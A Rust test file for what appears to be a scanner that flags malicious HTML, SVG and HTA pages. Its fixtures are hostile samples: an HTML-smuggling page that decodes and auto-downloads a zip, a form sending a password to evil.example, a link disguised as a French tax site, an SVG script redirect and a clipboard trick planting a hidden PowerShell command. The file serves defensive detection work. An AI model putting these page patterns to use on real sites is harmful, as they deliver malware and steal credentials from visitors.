use super::*;
use crate::{context::Budget, limits::Limits};

fn with<T>(
    source: &str,
    reader: fn(&[u8], &mut Context<'_>),
    check: impl FnOnce(&Context<'_>) -> T,
) -> T {
    let mut budget = Budget::unmetered(Limits::default());
    let mut cx = Context::new("p.html", 0, source.len() as u64, &[], &mut budget);
    reader(source.as_bytes(), &mut cx);
    for signal in &cx.signals {
        assert!(crate::signals::entry(&signal.id).is_some(), "{}", signal.id);
    }
    check(&cx)
}

fn ids(cx: &Context<'_>) -> Vec<String> {
    cx.signals.iter().map(|s| s.id.clone()).collect()
}

fn score(cx: &Context<'_>) -> u32 {
    cx.signals
        .iter()
        .filter_map(|s| crate::signals::entry(&s.id))
        .map(|e| e.weight)
        .sum()
}

/// A page that builds a zip archive in the browser and saves it, split so that this file is none.
fn smuggler() -> String {
    let archive = "UEsDBBQAAAAIAAAAIQ".to_owned() + &"AAAA".repeat(400);
    [
        "<html><script>var f='",
        &archive,
        "';var b=new Blob([atob",
        "(f)]);var a=document.createElement('a');a.href=URL.createObject",
        "URL(b);a.down",
        "load='facture.zip';a.cl",
        "ick();</script></html>",
    ]
    .concat()
}

#[test]
fn smuggling_is_malicious_and_the_payload_is_a_child() {
    with(&smuggler(), read, |cx| {
        assert!(ids(cx).contains(&"html-smuggling".into()), "{:?}", ids(cx));
        assert!(score(cx) >= 80);
        assert!(cx.children.iter().any(|c| c.name == "decoded.zip"));
    });
}

#[test]
fn a_form_that_sends_a_password_elsewhere_is_suspicious() {
    let page =
        "<form action='https://evil.example/p.php'><input name=e><input type=PASSWORD></form>";
    with(page, read, |cx| assert!(score(cx) >= 40, "{:?}", ids(cx)));
    with(
        "<form action='/login'><input type=password></form>",
        read,
        |cx| assert_eq!(ids(cx), [] as [String; 0]),
    );
}

#[test]
fn links_that_lie_are_told_from_redirectors() {
    with(
        "<a href='http://evil.example/x'>https://www.impots.gouv.fr/</a>",
        read,
        |cx| {
            assert_eq!(ids(cx), ["html-link-shows-other-host"]);
        },
    );
    for honest in [
        "<a href='https://click.list.example/?u=https%3A%2F%2Fwww.impots.gouv.fr%2F'>www.impots.gouv.fr</a>",
        "<a href='https://impots.gouv.fr/a'>www.impots.gouv.fr</a>",
        "<a href='https://x.example/'>Lire la suite</a>",
        "<a href='mailto:a@b.fr'>b.fr</a>",
    ] {
        with(honest, read, |cx| {
            assert_eq!(ids(cx), [] as [String; 0], "{honest}");
        });
    }
}

#[test]
fn drawings_with_scripts_are_suspicious_and_plain_ones_are_not() {
    let svg = "<svg xmlns='http://www.w3.org/2000/svg'><script><![CDATA[ location.href='https://evil.example/' ]]></script></svg>";
    with(svg, read_svg, |cx| {
        assert!(score(cx) >= 40, "{:?}", ids(cx));
    });
    with(
        "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/><title>x</title></svg>",
        read_svg,
        |cx| {
            assert_eq!(ids(cx), [] as [String; 0]);
        },
    );
}

#[test]
fn embedded_addresses_become_children() {
    let page = "<img src='data:image/png;base64,iVBORw0KGgoAAAANSUhEUg=='><iframe srcdoc='&lt;b&gt;hello&lt;/b&gt;'></iframe>";
    with(page, read, |cx| {
        let names: Vec<_> = cx.children.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, ["data-0.png", "data-1.html"]);
        assert_eq!(cx.children[1].bytes, b"<b>hello</b>");
    });
}

#[test]
fn pages_of_the_clipboard_trick_are_malicious() {
    let page = [
        "<script>navigator.clip",
        "board.writeText('power",
        "shell -w h -c \"x\"')</script>",
    ]
    .concat();
    with(&page, read, |cx| assert!(score(cx) >= 80, "{:?}", ids(cx)));
}

#[test]
fn an_ordinary_page_raises_nothing() {
    let page = "<!doctype html><html><head><title>Lettre</title><meta charset=utf-8><style>p{color:red}</style></head><body>\
        <h1>Bonjour</h1><p>Texte <a href='https://www.service.example/a?b=1'>ici</a></p><img src='https://t.example/o.gif' width=1 height=1>\
        <script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}</script></body></html>";
    with(page, read, |cx| {
        assert_eq!(ids(cx), [] as [String; 0]);
        assert_eq!(cx.facts["html.title"], "Lettre");
        assert!(
            cx.texts
                .iter()
                .any(|t| t.role == "body" && t.text.contains("Bonjour"))
        );
    });
}

#[test]
fn html_applications_are_suspicious_by_themselves() {
    with("<html><hta:application id=x></html>", read_hta, |cx| {
        assert!(score(cx) >= 40);
    });
}

proptest::proptest! {
    #[test]
    fn any_text_does(text in "[<>a-z!\\-/?='\" :;&#\\\\]{0,300}") {
        with(&text, read, |_| ());
        with(&text, read_svg, |_| ());
    }

    #[test]
    fn a_damaged_page_does(at in 0..1500_usize, byte: u8) {
        let mut bytes = smuggler().into_bytes();
        bytes[at] = byte;
        let mut budget = Budget::unmetered(Limits::default());
        let mut cx = Context::new("p.html", 0, bytes.len() as u64, &[], &mut budget);
        read(&bytes, &mut cx);
    }
}
